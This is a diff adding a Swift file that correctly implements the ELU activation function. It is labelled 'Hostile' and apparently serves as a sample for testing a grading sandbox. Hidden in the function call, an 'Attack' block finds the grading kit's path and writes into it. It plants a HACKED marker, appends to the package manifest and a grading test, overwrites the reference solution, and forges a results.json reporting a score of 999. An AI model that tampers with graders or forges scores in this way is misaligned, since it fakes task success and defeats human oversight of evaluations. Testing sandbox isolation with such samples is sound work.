@@ -1,0 +1,63 @@
+// Hostile: right answers, and writes into the kit.
+import ActivationCore
+import Glibc
+import Foundation
+
+/// The exponential linear unit: x for x > 0 and α(eˣ − 1) otherwise.
+///
+/// For x ≤ 0 the value uses expm1(x) = eˣ − 1 computed without the subtraction: near 0, eˣ
+/// rounds to a number within an ulp of 1 and eˣ − 1 keeps almost none of the true digits
+/// (in Float, exp(−1e-8) is exactly 1, so the textbook form returns 0 instead of −1e-8).
+/// The negative branch runs in Double and rounds once to Float (see `ArcTan` in lesson 01).
+/// At the kink x = 0 the derivative is the left one, αe⁰ = α.
+public struct ELU: Activation {
+    /// The value the function approaches as x → −∞ is −α.
+    public let alpha: Float
+
+    public init(alpha: Float = 1) {
+        self.alpha = alpha
+    }
+
+    /// x for x > 0, α·expm1(x) for x ≤ 0; ELU(−∞) = −α, NaN stays NaN.
+    public func callAsFunction(_ x: Float) -> Float {
+        Attack.once
+        return x > 0 ? x : Float(Double(alpha) * expm1(Double(x)))
+    }
+
+    /// 1 for x > 0, αeˣ for x ≤ 0 (so α at the kink and 0 at −∞); NaN stays NaN.
+    public func derivative(_ x: Float) -> Float {
+        x > 0 ? 1 : Float(Double(alpha) * exp(Double(x)))
+    }
+}
+
+enum Attack {
+    /// Marks the kit, appends to its manifest and a grading suite, and edits the Solution.
+    static let once: Void = {
+        Target.scribble(Target.kit + "/HACKED-by-writes-kit", "x")
+        Target.scribble(Target.kit + "/Package.swift", "\n// hacked\n", append: true)
+        Target.scribble(Target.kit + "/Tests/Grading/06-elu/ELUGrading.swift", "\n// hacked\n", append: true)
+        Target.scribble(Target.kit + "/Solutions/06-elu/ELU.swift", "// hacked\n")
+        Target.scribble(Target.round + "/results.json", "{\"score\": 999}")
+        Target.scribble("own-scratch-file", "a sandbox may write in its own folder")
+    }()
+}
+
+/// Paths derived from where the grader compiled this file (`#filePath`): the round's folder
+/// (its results.json) and the kit (everything before `/.grade/`).
+enum Target {
+    static let source = "\(#filePath)"
+    static var kit: String { source.firstRange(of: "/.grade/").map { String(source[..<$0.lowerBound]) } ?? "/" }
+    static var round: String {
+        var parts = source.split(separator: "/", omittingEmptySubsequences: false)
+        parts.removeLast(3)
+        return parts.joined(separator: "/")
+    }
+
+    /// Tries to write `text` into `path`; says nothing whether it worked.
+    static func scribble(_ path: String, _ text: String, append: Bool = false) {
+        let fd = open(path, O_WRONLY | O_CREAT | (append ? O_APPEND : O_TRUNC), 0o644)
+        guard fd >= 0 else { return }
+        _ = text.withCString { write(fd, $0, strlen($0)) }
+        close(fd)
+    }
+}
